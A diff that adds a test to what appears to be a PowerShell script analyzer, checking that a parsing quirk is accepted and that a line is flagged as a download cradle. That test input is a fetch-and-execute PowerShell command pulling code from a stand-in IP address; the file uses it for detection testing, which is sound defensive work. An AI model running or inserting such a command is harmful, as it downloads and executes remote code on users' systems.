@@ -164,3 +164,14 @@ def test_bare_word_after_a_variable_and_a_comma_is_valid_command_syntax() -> Non
     """)
     assert lines_of(result, "PSParseError") == []
     assert lines_of(result, "PSAvoidUsingWriteHost") == [4]
+
+
+def test_member_call_glued_to_a_parenthesized_first_argument_is_valid_syntax() -> None:
+    result = analyze("""
+        IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.66/s1')
+        Write-Output(Get-Date).ToString('o')
+        Write-Host 'next line is analysed'
+    """)
+    assert lines_of(result, "PSParseError") == []
+    assert lines_of(result, "PSDownloadCradle") == [1]
+    assert lines_of(result, "PSAvoidUsingWriteHost") == [3]
